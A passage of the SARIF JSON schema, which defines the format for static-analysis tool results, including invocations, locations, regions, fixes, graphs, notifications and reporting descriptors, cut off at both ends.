run.","$ref":"#/definitions/propertyBag"},"artifacts":{"description":"An array of artifact objects that will be merged with a separate run.","type":"array","minItems":0,"uniqueItems":true,"items":{"$ref":"#/definitions/artifact"}},"invocations":{"description":"Describes the invocation of the analysis tool that will be merged with a separate run.","type":"array","minItems":0,"uniqueItems":false,"default":[],"items":{"$ref":"#/definitions/invocation"}},"logicalLocations":{"description":"An array of logical locations such as namespaces, types or functions that will be merged with a separate run.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/logicalLocation"}},"threadFlowLocations":{"description":"An array of threadFlowLocation objects that will be merged with a separate run.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/threadFlowLocation"}},"results":{"description":"An array of result objects that will be merged with a separate run.","type":"array","minItems":0,"uniqueItems":false,"default":[],"items":{"$ref":"#/definitions/result"}},"taxonomies":{"description":"Tool taxonomies that will be merged with a separate run.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/toolComponent"}},"driver":{"description":"The analysis tool object that will be merged with a separate run.","$ref":"#/definitions/toolComponent"},"extensions":{"description":"Tool extensions that will be merged with a separate run.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/toolComponent"}},"policies":{"description":"Tool policies that will be merged with a separate run.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/toolComponent"}},"translations":{"description":"Tool translations that will be merged with a separate run.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/toolComponent"}},"addresses":{"description":"Addresses that will be merged with a separate run.","type":"array","minItems":0,"uniqueItems":false,"default":[],"items":{"$ref":"#/definitions/address"}},"webRequests":{"description":"Requests that will be merged with a separate run.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/webRequest"}},"webResponses":{"description":"Responses that will be merged with a separate run.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/webResponse"}},"properties":{"description":"Key/value pairs that provide additional information about the external properties.","$ref":"#/definitions/propertyBag"}}},"externalPropertyFileReference":{"description":"Contains information that enables a SARIF consumer to locate the external property file that contains the value of an externalized property associated with the run.","type":"object","additionalProperties":false,"properties":{"location":{"description":"The location of the external property file.","$ref":"#/definitions/artifactLocation"},"guid":{"description":"A stable, unique identifier for the external property file in the form of a GUID.","type":"string","pattern":"^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[1-5][0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12}$"},"itemCount":{"description":"A non-negative integer specifying the number of items contained in the external property file.","type":"integer","default":-1,"minimum":-1},"properties":{"description":"Key/value pairs that provide additional information about the external property file.","$ref":"#/definitions/propertyBag"}},"anyOf":[{"required":["location"]},{"required":["guid"]}]},"externalPropertyFileReferences":{"description":"References to external property files that should be inlined with the content of a root log file.","additionalProperties":false,"type":"object","properties":{"conversion":{"description":"An external property file containing a run.conversion object to be merged with the root log file.","$ref":"#/definitions/externalPropertyFileReference"},"graphs":{"description":"An array of external property files containing a run.graphs object to be merged with the root log file.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/externalPropertyFileReference"}},"externalizedProperties":{"description":"An external property file containing a run.properties object to be merged with the root log file.","$ref":"#/definitions/externalPropertyFileReference"},"artifacts":{"description":"An array of external property files containing run.artifacts arrays to be merged with the root log file.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/externalPropertyFileReference"}},"invocations":{"description":"An array of external property files containing run.invocations arrays to be merged with the root log file.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/externalPropertyFileReference"}},"logicalLocations":{"description":"An array of external property files containing run.logicalLocations arrays to be merged with the root log file.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/externalPropertyFileReference"}},"threadFlowLocations":{"description":"An array of external property files containing run.threadFlowLocations arrays to be merged with the root log file.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/externalPropertyFileReference"}},"results":{"description":"An array of external property files containing run.results arrays to be merged with the root log file.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/externalPropertyFileReference"}},"taxonomies":{"description":"An array of external property files containing run.taxonomies arrays to be merged with the root log file.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/externalPropertyFileReference"}},"addresses":{"description":"An array of external property files containing run.addresses arrays to be merged with the root log file.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/externalPropertyFileReference"}},"driver":{"description":"An external property file containing a run.driver object to be merged with the root log file.","$ref":"#/definitions/externalPropertyFileReference"},"extensions":{"description":"An array of external property files containing run.extensions arrays to be merged with the root log file.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/externalPropertyFileReference"}},"policies":{"description":"An array of external property files containing run.policies arrays to be merged with the root log file.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/externalPropertyFileReference"}},"translations":{"description":"An array of external property files containing run.translations arrays to be merged with the root log file.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/externalPropertyFileReference"}},"webRequests":{"description":"An array of external property files containing run.requests arrays to be merged with the root log file.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/externalPropertyFileReference"}},"webResponses":{"description":"An array of external property files containing run.responses arrays to be merged with the root log file.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/externalPropertyFileReference"}},"properties":{"description":"Key/value pairs that provide additional information about the external property files.","$ref":"#/definitions/propertyBag"}}},"fix":{"description":"A proposed fix for the problem represented by a result object. A fix specifies a set of artifacts to modify. For each artifact, it specifies a set of bytes to remove, and provides a set of new bytes to replace them.","additionalProperties":false,"type":"object","properties":{"description":{"description":"A message that describes the proposed fix, enabling viewers to present the proposed change to an end user.","$ref":"#/definitions/message"},"artifactChanges":{"description":"One or more artifact changes that comprise a fix for a result.","type":"array","minItems":1,"uniqueItems":true,"items":{"$ref":"#/definitions/artifactChange"}},"properties":{"description":"Key/value pairs that provide additional information about the fix.","$ref":"#/definitions/propertyBag"}},"required":["artifactChanges"]},"graph":{"description":"A network of nodes and directed edges that describes some aspect of the structure of the code (for example, a call graph).","type":"object","additionalProperties":false,"properties":{"description":{"description":"A description of the graph.","$ref":"#/definitions/message"},"nodes":{"description":"An array of node objects representing the nodes of the graph.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/node"}},"edges":{"description":"An array of edge objects representing the edges of the graph.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/edge"}},"properties":{"description":"Key/value pairs that provide additional information about the graph.","$ref":"#/definitions/propertyBag"}}},"graphTraversal":{"description":"Represents a path through a graph.","type":"object","additionalProperties":false,"properties":{"runGraphIndex":{"description":"The index within the run.graphs to be associated with the result.","type":"integer","default":-1,"minimum":-1},"resultGraphIndex":{"description":"The index within the result.graphs to be associated with the result.","type":"integer","default":-1,"minimum":-1},"description":{"description":"A description of this graph traversal.","$ref":"#/definitions/message"},"initialState":{"description":"Values of relevant expressions at the start of the graph traversal that may change during graph traversal.","type":"object","additionalProperties":{"$ref":"#/definitions/multiformatMessageString"}},"immutableState":{"description":"Values of relevant expressions at the start of the graph traversal that remain constant for the graph traversal.","type":"object","additionalProperties":{"$ref":"#/definitions/multiformatMessageString"}},"edgeTraversals":{"description":"The sequences of edges traversed by this graph traversal.","type":"array","minItems":0,"uniqueItems":false,"default":[],"items":{"$ref":"#/definitions/edgeTraversal"}},"properties":{"description":"Key/value pairs that provide additional information about the graph traversal.","$ref":"#/definitions/propertyBag"}},"oneOf":[{"required":["runGraphIndex"]},{"required":["resultGraphIndex"]}]},"invocation":{"description":"The runtime environment of the analysis tool run.","additionalProperties":false,"type":"object","properties":{"commandLine":{"description":"The command line used to invoke the tool.","type":"string"},"arguments":{"description":"An array of strings, containing in order the command line arguments passed to the tool from the operating system.","type":"array","minItems":0,"uniqueItems":false,"items":{"type":"string"}},"responseFiles":{"description":"The locations of any response files specified on the tool\'s command line.","type":"array","minItems":0,"uniqueItems":true,"items":{"$ref":"#/definitions/artifactLocation"}},"startTimeUtc":{"description":"The Coordinated Universal Time (UTC) date and time at which the invocation started. See \\"Date/time properties\\" in the SARIF spec for the required format.","type":"string","format":"date-time"},"endTimeUtc":{"description":"The Coordinated Universal Time (UTC) date and time at which the invocation ended. See \\"Date/time properties\\" in the SARIF spec for the required format.","type":"string","format":"date-time"},"exitCode":{"description":"The process exit code.","type":"integer"},"ruleConfigurationOverrides":{"description":"An array of configurationOverride objects that describe rules related runtime overrides.","type":"array","minItems":0,"default":[],"uniqueItems":true,"items":{"$ref":"#/definitions/configurationOverride"}},"notificationConfigurationOverrides":{"description":"An array of configurationOverride objects that describe notifications related runtime overrides.","type":"array","minItems":0,"default":[],"uniqueItems":true,"items":{"$ref":"#/definitions/configurationOverride"}},"toolExecutionNotifications":{"description":"A list of runtime conditions detected by the tool during the analysis.","type":"array","minItems":0,"uniqueItems":false,"default":[],"items":{"$ref":"#/definitions/notification"}},"toolConfigurationNotifications":{"description":"A list of conditions detected by the tool that are relevant to the tool\'s configuration.","type":"array","minItems":0,"uniqueItems":false,"default":[],"items":{"$ref":"#/definitions/notification"}},"exitCodeDescription":{"description":"The reason for the process exit.","type":"string"},"exitSignalName":{"description":"The name of the signal that caused the process to exit.","type":"string"},"exitSignalNumber":{"description":"The numeric value of the signal that caused the process to exit.","type":"integer"},"processStartFailureMessage":{"description":"The reason given by the operating system that the process failed to start.","type":"string"},"executionSuccessful":{"description":"Specifies whether the tool\'s execution completed successfully.","type":"boolean"},"machine":{"description":"The machine on which the invocation occurred.","type":"string"},"account":{"description":"The account under which the invocation occurred.","type":"string"},"processId":{"description":"The id of the process in which the invocation occurred.","type":"integer"},"executableLocation":{"description":"An absolute URI specifying the location of the executable that was invoked.","$ref":"#/definitions/artifactLocation"},"workingDirectory":{"description":"The working directory for the invocation.","$ref":"#/definitions/artifactLocation"},"environmentVariables":{"description":"The environment variables associated with the analysis tool process, expressed as key/value pairs.","type":"object","additionalProperties":{"type":"string"}},"stdin":{"description":"A file containing the standard input stream to the process that was invoked.","$ref":"#/definitions/artifactLocation"},"stdout":{"description":"A file containing the standard output stream from the process that was invoked.","$ref":"#/definitions/artifactLocation"},"stderr":{"description":"A file containing the standard error stream from the process that was invoked.","$ref":"#/definitions/artifactLocation"},"stdoutStderr":{"description":"A file containing the interleaved standard output and standard error stream from the process that was invoked.","$ref":"#/definitions/artifactLocation"},"properties":{"description":"Key/value pairs that provide additional information about the invocation.","$ref":"#/definitions/propertyBag"}},"required":["executionSuccessful"]},"location":{"description":"A location within a programming artifact.","additionalProperties":false,"type":"object","properties":{"id":{"description":"Value that distinguishes this location from all other locations within a single result object.","type":"integer","minimum":-1,"default":-1},"physicalLocation":{"description":"Identifies the artifact and region.","$ref":"#/definitions/physicalLocation"},"logicalLocations":{"description":"The logical locations associated with the result.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/logicalLocation"}},"message":{"description":"A message relevant to the location.","$ref":"#/definitions/message"},"annotations":{"description":"A set of regions relevant to the location.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/region"}},"relationships":{"description":"An array of objects that describe relationships between this location and others.","type":"array","default":[],"minItems":0,"uniqueItems":true,"items":{"$ref":"#/definitions/locationRelationship"}},"properties":{"description":"Key/value pairs that provide additional information about the location.","$ref":"#/definitions/propertyBag"}}},"locationRelationship":{"description":"Information about the relation of one location to another.","type":"object","additionalProperties":false,"properties":{"target":{"description":"A reference to the related location.","type":"integer","minimum":0},"kinds":{"description":"A set of distinct strings that categorize the relationship. Well-known kinds include \'includes\', \'isIncludedBy\' and \'relevant\'.","type":"array","default":["relevant"],"uniqueItems":true,"items":{"type":"string"}},"description":{"description":"A description of the location relationship.","$ref":"#/definitions/message"},"properties":{"description":"Key/value pairs that provide additional information about the location relationship.","$ref":"#/definitions/propertyBag"}},"required":["target"]},"logicalLocation":{"description":"A logical location of a construct that produced a result.","additionalProperties":false,"type":"object","properties":{"name":{"description":"Identifies the construct in which the result occurred. For example, this property might contain the name of a class or a method.","type":"string"},"index":{"description":"The index within the logical locations array.","type":"integer","default":-1,"minimum":-1},"fullyQualifiedName":{"description":"The human-readable fully qualified name of the logical location.","type":"string"},"decoratedName":{"description":"The machine-readable name for the logical location, such as a mangled function name provided by a C++ compiler that encodes calling convention, return type and other details along with the function name.","type":"string"},"parentIndex":{"description":"Identifies the index of the immediate parent of the construct in which the result was detected. For example, this property might point to a logical location that represents the namespace that holds a type.","type":"integer","default":-1,"minimum":-1},"kind":{"description":"The type of construct this logical location component refers to. Should be one of \'function\', \'member\', \'module\', \'namespace\', \'parameter\', \'resource\', \'returnType\', \'type\', \'variable\', \'object\', \'array\', \'property\', \'value\', \'element\', \'text\', \'attribute\', \'comment\', \'declaration\', \'dtd\' or \'processingInstruction\', if any of those accurately describe the construct.","type":"string"},"properties":{"description":"Key/value pairs that provide additional information about the logical location.","$ref":"#/definitions/propertyBag"}}},"message":{"description":"Encapsulates a message intended to be read by the end user.","type":"object","additionalProperties":false,"properties":{"text":{"description":"A plain text message string.","type":"string"},"markdown":{"description":"A Markdown message string.","type":"string"},"id":{"description":"The identifier for this message.","type":"string"},"arguments":{"description":"An array of strings to substitute into the message string.","type":"array","minItems":0,"uniqueItems":false,"default":[],"items":{"type":"string"}},"properties":{"description":"Key/value pairs that provide additional information about the message.","$ref":"#/definitions/propertyBag"}},"anyOf":[{"required":["text"]},{"required":["id"]}]},"multiformatMessageString":{"description":"A message string or message format string rendered in multiple formats.","type":"object","additionalProperties":false,"properties":{"text":{"description":"A plain text message string or format string.","type":"string"},"markdown":{"description":"A Markdown message string or format string.","type":"string"},"properties":{"description":"Key/value pairs that provide additional information about the message.","$ref":"#/definitions/propertyBag"}},"required":["text"]},"node":{"description":"Represents a node in a graph.","type":"object","additionalProperties":false,"properties":{"id":{"description":"A string that uniquely identifies the node within its graph.","type":"string"},"label":{"description":"A short description of the node.","$ref":"#/definitions/message"},"location":{"description":"A code location associated with the node.","$ref":"#/definitions/location"},"children":{"description":"Array of child nodes.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/node"}},"properties":{"description":"Key/value pairs that provide additional information about the node.","$ref":"#/definitions/propertyBag"}},"required":["id"]},"notification":{"description":"Describes a condition relevant to the tool itself, as opposed to being relevant to a target being analyzed by the tool.","type":"object","additionalProperties":false,"properties":{"locations":{"description":"The locations relevant to this notification.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/location"}},"message":{"description":"A message that describes the condition that was encountered.","$ref":"#/definitions/message"},"level":{"description":"A value specifying the severity level of the notification.","default":"warning","enum":["none","note","warning","error"]},"threadId":{"description":"The thread identifier of the code that generated the notification.","type":"integer"},"timeUtc":{"description":"The Coordinated Universal Time (UTC) date and time at which the analysis tool generated the notification.","type":"string","format":"date-time"},"exception":{"description":"The runtime exception, if any, relevant to this notification.","$ref":"#/definitions/exception"},"descriptor":{"description":"A reference used to locate the descriptor relevant to this notification.","$ref":"#/definitions/reportingDescriptorReference"},"associatedRule":{"description":"A reference used to locate the rule descriptor associated with this notification.","$ref":"#/definitions/reportingDescriptorReference"},"properties":{"description":"Key/value pairs that provide additional information about the notification.","$ref":"#/definitions/propertyBag"}},"required":["message"]},"physicalLocation":{"description":"A physical location relevant to a result. Specifies a reference to a programming artifact together with a range of bytes or characters within that artifact.","additionalProperties":false,"type":"object","properties":{"address":{"description":"The address of the location.","$ref":"#/definitions/address"},"artifactLocation":{"description":"The location of the artifact.","$ref":"#/definitions/artifactLocation"},"region":{"description":"Specifies a portion of the artifact.","$ref":"#/definitions/region"},"contextRegion":{"description":"Specifies a portion of the artifact that encloses the region. Allows a viewer to display additional context around the region.","$ref":"#/definitions/region"},"properties":{"description":"Key/value pairs that provide additional information about the physical location.","$ref":"#/definitions/propertyBag"}},"anyOf":[{"required":["address"]},{"required":["artifactLocation"]}]},"propertyBag":{"description":"Key/value pairs that provide additional information about the object.","type":"object","additionalProperties":true,"properties":{"tags":{"description":"A set of distinct strings that provide additional information.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"type":"string"}}}},"rectangle":{"description":"An area within an image.","additionalProperties":false,"type":"object","properties":{"top":{"description":"The Y coordinate of the top edge of the rectangle, measured in the image\'s natural units.","type":"number"},"left":{"description":"The X coordinate of the left edge of the rectangle, measured in the image\'s natural units.","type":"number"},"bottom":{"description":"The Y coordinate of the bottom edge of the rectangle, measured in the image\'s natural units.","type":"number"},"right":{"description":"The X coordinate of the right edge of the rectangle, measured in the image\'s natural units.","type":"number"},"message":{"description":"A message relevant to the rectangle.","$ref":"#/definitions/message"},"properties":{"description":"Key/value pairs that provide additional information about the rectangle.","$ref":"#/definitions/propertyBag"}}},"region":{"description":"A region within an artifact where a result was detected.","additionalProperties":false,"type":"object","properties":{"startLine":{"description":"The line number of the first character in the region.","type":"integer","minimum":1},"startColumn":{"description":"The column number of the first character in the region.","type":"integer","minimum":1},"endLine":{"description":"The line number of the last character in the region.","type":"integer","minimum":1},"endColumn":{"description":"The column number of the character following the end of the region.","type":"integer","minimum":1},"charOffset":{"description":"The zero-based offset from the beginning of the artifact of the first character in the region.","type":"integer","default":-1,"minimum":-1},"charLength":{"description":"The length of the region in characters.","type":"integer","minimum":0},"byteOffset":{"description":"The zero-based offset from the beginning of the artifact of the first byte in the region.","type":"integer","default":-1,"minimum":-1},"byteLength":{"description":"The length of the region in bytes.","type":"integer","minimum":0},"snippet":{"description":"The portion of the artifact contents within the specified region.","$ref":"#/definitions/artifactContent"},"message":{"description":"A message relevant to the region.","$ref":"#/definitions/message"},"sourceLanguage":{"description":"Specifies the source language, if any, of the portion of the artifact specified by the region object.","type":"string"},"properties":{"description":"Key/value pairs that provide additional information about the region.","$ref":"#/definitions/propertyBag"}}},"replacement":{"description":"The replacement of a single region of an artifact.","additionalProperties":false,"type":"object","properties":{"deletedRegion":{"description":"The region of the artifact to delete.","$ref":"#/definitions/region"},"insertedContent":{"description":"The content to insert at the location specified by the \'deletedRegion\' property.","$ref":"#/definitions/artifactContent"},"properties":{"description":"Key/value pairs that provide additional information about the replacement.","$ref":"#/definitions/propertyBag"}},"required":["deletedRegion"]},"reportingDescriptor":{"description":"Metadata that describes a specific report produced by the tool, as part of the analysis it provides or its runtime reporting.","additionalProperties":false,"type":"object","properties":{"id":{"description":"A stable, opaque identifier for the report.","type":"string"},"deprecatedIds":{"description":"An array of stable, opaque identifiers by which this report was known in some previous version of the analysis tool.","type":"array","minItems":0,"uniqueItems":true,"items":{"type":"string"}},"guid":{"description":"A unique identifier for the reporting descriptor in the form of a GUID.","type":"string","pattern":"^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[1-5][0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12}$"},"deprecatedGuids":{"description":"An array of unique identifies in the form of a GUID by which this report was known in some previous version of the analysis tool.","type":"array","minItems":0,"uniqueItems":true,"items":{"type":"string","pattern":"^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[1-5][0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12}$"}},"name":{"description":"A report identifier that is understandable to an end user.","type":"string"},"deprecatedNames":{"description":"An array of readable identifiers by which this report was known in some previous version of the analysis tool.","type":"array","minItems":0,"uniqueItems":true,"items":{"type":"string"}},"shortDescription":{"description":"A concise description of the report. Should be a single sentence that is understandable when visible space is limited to a single line of text.","$ref":"#/definitions/multiformatMessageString"},"fullDescription":{"description":"A description of the report. Should, as far as possible, provide details sufficient to enable resolution of any problem indicated by the result.","$ref":"#/definitions/multiformatMessageString"},"messageStrings":{"description":"A set of name/value pairs with arbitrary names. Each value is a multiformatMessageString object, which holds message strings in plain text and (optionally) Markdown format. The strings can include placeholders, which can be used to construct a message in combination with an arbitrary number of additional string arguments.","type":"object","additionalProperties":{"$ref":"#/definitions/multiformatMessageString"}},"defaultConfiguration":{"description":"Default reporting configuration information.","$ref":"#/definitions/reportingConfiguration"},"helpUri":{"description":"A URI where the primary documentation for the report can be found.","type":"string","format":"uri"},"help":{"description":"Provides the primary documentation for the report, useful when there is no online documentation.","$ref":"#/definitions/multiformatMessageString"},"relationships":{"description":"An array of objects that describe relationships between this reporting descriptor and others.","type":"array","default":[],"minItems":0,"uniqueItems":true,"items":{"$ref":"#/definitions/reportingDescriptorRelationship"}},"properties":{"description":"Key/value pairs that provide additional information about the report.","$ref":"#/definitions/propertyBag"}},"required":["id"]},"reportingConfiguration":{"description":"Information about a rule or notification that can be configured at runtime.","type":"object","additionalProperties":false,"properties":{"enabled":{"description":"Specifies whether the report may be produced during the scan.","type":"boolean","default":true},"level":{"description":"Specifies the failure level for the report.","default":"warning","enum":["none","note","warning","error"]},"rank":{"description":"Specifies the relative priority of the report. Used for analysis output only.","type":"number","default":-1,"minimum":-1,"maximum":100},"parameters":{"description":"Contains configuration information specific to a report.","$ref":"#/definitions/propertyBag"},"properties":{"description":"Key/value pairs that provide additional information about the reporting configuration.","$ref":"#/definitions/propertyBag"}}},"reportingDescriptorReference":{"description":"Information about how to locate a relevant reporting descriptor.","type":"object","additionalProperties":false,"properties":{"id":{"description":"The id of the descriptor.","type":"string"},"index":{"description":"The index into an array of descriptors in toolComponent.ruleDescriptors, toolComponent.notificationDescriptors, or toolComponent.taxonomyDescriptors, depending on context.","type":"integer","default":-1,"minimum":-1},"guid":{"description":"A guid that uniquely identifies the descriptor.","type":"string","pattern":"^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[1-5][0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12}$"},"toolComponent":{"description":"A reference used to locate the toolComponent associated with the descriptor.","$ref":"#/definitions/toolComponentReference"},"properties":{"description":"Key/value pairs that provide additional information about the reporting descriptor reference.","$ref":"#/definitions/propertyBag"}},"anyOf":[{"required":["index"]},{"required":["guid"]},{"required":["id"]}]},"reportingDescriptorRelationship":{"description":"Information about the relation of one reporting descriptor to another.","type":"object","additionalProperties":false,"properties":{"target":{"description":"A reference to the related reporting descriptor.","$ref":"#/definitions/reportingDescriptorReference"},"kinds":{"description":"A set of distinct strings that categorize the relationship. Well-known kinds include \'canPrecede\', \'canFollow\', \'willPrecede\', \'willFollow\', \'superset\', \'subset\', \'equal\', \'disjoint\', \'relevant\', and \'incomparable\'.","type":"array","default":["relevant"],"uniqueItems":true,"items":{"type":"string"}},"description":{"description":"A description of the reporting descriptor relationship.","$ref":"#/definitions/message"},"properties":{"description":"Key/value pairs that provide additional information about the reporting descriptor reference.","$ref":"#/definitions/propertyBag"}},"required":["target"]},"result":{"description":"A result produced by an analysis tool.","additionalProperties":false,"type":"object","properties":{"ruleId":{"description":"The stable, unique identifier of the rule, if any, to which this result is relevant.","type":"string"},"ruleIndex":{"description":"The index within the tool component rules array of the rule object associated with this result.","type":"integer","default":-1,"minimum":-1},"rule":{"description":"A reference used to locate the rule descriptor relevant to this result.","$ref":"#/definitions/reportingDescriptorReference"},"kind":{"description":"A value that categorizes results by evaluation state.","default":"fail","enum":["notApplicable","pass","fail","review","open","informational"]},"level":{"description":"A value specifying the severity level of the result.","default":"warning","enum":["none","note","warning","error"]},"message":{"description":"A message that describes the result. The first sentence of the message only will be displayed when visible space is limited.","$ref":"#/definitions/message"},"analysisTarget":{"description":"Identifies the artifact that the analysis tool was instructed to scan. This need not be the same as the artifact where the result actually occurred.","$ref":"#/definitions/artifactLocation"},"locations":{"description":"The set of locations where the result was detected. Specify only one location unless the problem indicated by the result can only be corrected by making a change at every specified location.","type":"array","minItems":0,"uniqueItems":false,"default":[],"items":{"$ref":"#/definitions/location"}},"guid":{"description":"A stable, unique identifier for the result in the form of a GUID.","type":"string","pattern":"^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[1-5][0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12}$"},"correlationGuid":{"description":"A stable, unique identifier for the equivalence class of logically identical results to which this result belongs, in the form of a GUID.","type":"string","pattern":"^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[1-5][0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12}$"},"occurrenceCount":{"description":"A positive integer specifying the number of times this logically unique result was observed in this run.","type":"integer","minimum":1},"partialFingerprints":{"description":"A set of strings that contribute to the stable, unique identity of the result.","type":"object","additionalProperties":{"type":"string"}},"fingerprints":{"description":"A set of strings each of which individually defines a stable, unique identity for the result.","type":"object","additionalProperties":{"type":"string"}},"stacks":{"description":"An array of \'stack\' objects relevant to the result.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/stack"}},"codeFlows":{"description":"An array of \'codeFlow\' objects relevant to the result.","type":"array","minItems":0,"uniqueItems":false,"default":[],"items":{"$ref":"#/definitions/codeFlow"}},"graphs":{"description":"An array of zero or more unique graph objects associated with the result.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/graph"}},"graphTraversals":{"description":"An array of one or more unique \'graphTraversal\' objects.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/graphTraversal"}},"relatedLocations":{"description":"A set of locations relevant to this result.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/location"}},"suppressions":{"description":"A set of suppressions relevant to this result.","type":"array","minItems":0,"uniqueItems":true,"items":{"$ref":"#/definitions/suppression"}},"baselineState":{"description":"The state of a result relative to a baseline of a previous run.","enum":["new","unchanged","updated","absent"]},"rank":{"description":"A number representing the priority or importance of the result.","type":"number","default":-1,"minimum":-1,"maximum":100},"attachments":{"description":"A set of artifacts relevant to the result.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/attachment"}},"hostedViewerUri":{"description":"An absolute URI at which the result can be viewed.","type":"string","format":"uri"},"workItemUris":{"description":"The URIs of the work items associated with this result.","type":"array","minItems":0,"uniqueItems":true,"items":{"type":"string","format":"uri"}},"provenance":{"description":"Information about how and when the result was detected.","$ref":"#/definitions/resultProvenance"},"fixes":{"description":"An array of \'fix\' objects, each of which represents a proposed fix to the problem indicated by the result.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/fix"}},"taxa":{"description":"An array of references to taxonomy reporting descriptors that are applicable to the result.","type":"array","default":[],"minItems":0,"uniqueItems":true,"items":{"$ref":"#/definitions/reportingDescriptorReference"}},"webRequest":{"description":"A web request associated with this result.","$ref":"#/definitions/webRequest"},"webResponse":{"description":"A web response associated with this result.","$ref":"#/definitions/webResponse"},"properties":{"description":"Key/value pairs that provide additional information about the result.","$ref":"#/definitions/propertyBag"}},"required":["message"]},"resultProvenance":{"description":"Contains information about how and when a result was detected.","additionalProperties":false,"type":"object","properties":{"firstDetectionTimeUtc":{"description":"The Coordinated Universal Time (UTC) date and time at which the result was first detected. See \\"Date/time properties\\" in the SARIF spec for the required format.","type":"string","format":"date-time"},"lastDetectionTimeUtc":{"description":"The Coordinated Universal Time (UTC) date and time at which the result was most recently detected. See \\"Date/time properties\\" in the SARIF spec for the required format.","type":"string","format":"date-time"},"firstDetectionRunGuid":{"description":"A GUID-valued string equal to the automationDetails.guid property of the run in which the result was first detected.","type":"string","pattern":"^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[1-5][0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12}$"},"lastDetectionRunGuid":{"description":"A GUID-valued string equal to the automationDetails.guid property of the run in which the result was most recently detected.","type":"string","pattern":"^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[1-5][0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12}$"},"invocationIndex":{"description":"The index within the run.invocations array of the invocation object which describes the tool invocation that detected the result.","type":"integer","default":-1,"minimum":-1},"conversionSources":{"description":"An array of physicalLocation objects which specify the portions of an analysis tool\'s output that a converter transformed into the result.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/physicalLocation"}},"properties":{"description":"Key/value pairs that provide additional information about the result.","$ref":"#/definitions/propertyBag"}}},"run":{"description":"Describes a single run of an analysis tool, and contains the reported output of that run.","additionalProperties":false,"type":"object","properties":{"tool":{"description":"Information about the tool or tool pipeline that generated the results in this run. A run can only contain results produced by a single tool or tool pipeline. A run can aggregate results from multiple log files, as long as context around the tool run (tool command-line arguments and the like) is identical for all aggregated files.","$ref":"#/definitions/tool"},"invocations":{"description":"Describes the invocation of the analysis tool.","type":"array","minItems":0,"uniqueItems":false,"default":[],"items":{"$ref":"#/definitions/invocation"}},"conversion":{"description":"A conversion object that describes how a converter transformed an analysis tool\'s native reporting format into the SARIF format.","$ref":"#/definitions/conversion"},"language":{"description":"The language of the messages emitted into the log file during this run (expressed as an ISO 639-1 two-letter lowercase culture code) and an optional region (expressed as an ISO 3166-1 two-letter uppercase subculture code associated with a country or region). The casing is recommended but not required (in order for this data to conform to RFC5646).","type":"string","default":"en-US","pattern":"^[a-zA-Z]{2}|^[a-zA-Z]{2}-[a-zA-Z]{2}]?$"},"versionControlProvenance":{"description":"Specifies the revision in version control of the artifacts that were 